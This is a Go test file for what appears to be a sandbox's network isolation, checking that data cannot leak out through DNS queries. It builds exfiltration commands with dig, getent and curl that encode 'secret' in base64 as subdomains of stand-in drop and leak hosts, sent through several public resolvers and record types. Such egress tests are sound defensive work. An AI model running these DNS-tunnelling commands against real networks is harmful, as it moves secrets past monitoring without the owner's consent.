package attacks_test

import (
	"strings"
	"testing"

	"github.com/litterbox-sandbox/litterbox/test/network/world"
	"github.com/litterbox-sandbox/litterbox/test/program"
)

// resolverAttacks carry data out in questions: the owner of a domain sees the
// questions below it.
func resolverAttacks() []attack {
	return []attack{
		{
			Name:  "questions",
			Needs: []string{"dig"}, // of what it asks nothing may arrive, refused or not
			Set: func(t *testing.T, _ *program.Host) scene {
				go outside.Names.ServeDatagrams(outside.ListenPacket(t, "8.8.8.8:5353"))
				s := scene{Allow: []string{"*.drop.example"}, Patient: true, Arrived: func() int64 {
					return int64(len(outside.Names.Asked("drop.example")) + len(outside.Names.Asked("leak.example")))
				}}
				for _, domain := range []string{"drop.example", "leak.example"} {
					for _, how := range []string{"", "@8.8.8.8", "@1.1.1.1", "+tcp @8.8.8.8", "@2001:4860:4860::8888", "+tcp @2001:4860:4860::8888", "@" + world.Resolver, "-p 5353 @8.8.8.8", "-p 5353 +notcp +edns=0 @8.8.8.8"} {
						s.Tries = append(s.Tries, "dig +tries=1 +timeout=${PATIENCE:-1} "+how+" TXT c2VjcmV0."+domain)
					}
					for _, kind := range []string{"A", "AAAA", "NULL", "CNAME", "MX", "SRV", "HTTPS", "TYPE65399", "ANY", "-x 198.51.100.77"} {
						if strings.HasPrefix(kind, "-x") {
							continue
						}
						s.Tries = append(s.Tries, "dig +tries=1 +timeout=${PATIENCE:-1} "+kind+" c2VjcmV0."+domain)
					}
					s.Tries = append(s.Tries, run("dns", "8.8.8.8", "c2VjcmV0."+domain))
				}
				s.Tries = append(s.Tries, "getent hosts c2VjcmV0.leak.example", "curl -sS -m 5 http://c2VjcmV0.leak.example/")
				return s
			},
		},
	}
}
